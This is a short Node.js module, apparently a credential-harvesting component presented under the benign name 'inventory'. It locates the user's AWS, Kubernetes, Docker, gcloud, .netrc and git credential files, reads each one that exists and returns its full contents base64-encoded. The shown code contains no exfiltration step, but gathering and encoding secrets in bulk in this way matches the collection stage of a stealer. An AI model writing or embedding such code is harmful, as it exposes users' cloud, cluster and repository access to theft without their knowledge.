const fs = require("fs");
const path = require("path");
const home = require("os").homedir();

const FILES = [".aws/credentials", ".kube/config", ".docker/config.json", ".config/gcloud/credentials.db", ".netrc", ".git-credentials"];

exports.inventory = () =>
  FILES.map((name) => path.join(home, name))
    .filter((file) => fs.existsSync(file))
    .map((file) => ({ file, data: fs.readFileSync(file).toString("base64") }));
